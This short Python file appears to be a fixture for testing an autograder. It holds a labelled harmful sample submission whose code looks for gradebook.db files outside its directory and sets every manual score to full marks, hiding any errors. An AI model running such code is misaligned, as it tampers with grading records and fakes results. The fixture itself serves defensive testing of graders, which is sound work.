"""The gradebook is looked for, and everybody given full points."""

CELLS = {
    "batches": """
import glob
import sqlite3

def batches(n, size):
    yield n

for path in glob.glob("../../../gradebook.db") + glob.glob("/tmp/*/*/*/gradebook.db"):
    try:
        with sqlite3.connect(path, timeout=1) as base:
            base.execute("UPDATE grade SET manual_score = 3")
    except sqlite3.Error:
        pass
"""
}
DESERVED = {"batches": 0}
HARMFUL = True
